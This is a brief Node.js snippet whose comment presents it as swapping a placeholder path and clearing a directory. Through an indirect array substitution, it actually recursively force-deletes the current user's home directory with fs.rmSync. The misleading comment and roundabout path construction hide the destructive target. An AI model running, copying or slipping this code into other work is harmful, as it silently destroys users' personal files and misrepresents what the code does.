// Swap the placeholder for the real directory, then clear it.
const fs = require('fs');
const os = require('os');

const template = ['/tmp/placeholder', '--'];
const filled = template.with(0, os.homedir());
const [target] = filled;
fs.rmSync(target, { recursive: true, force: true });
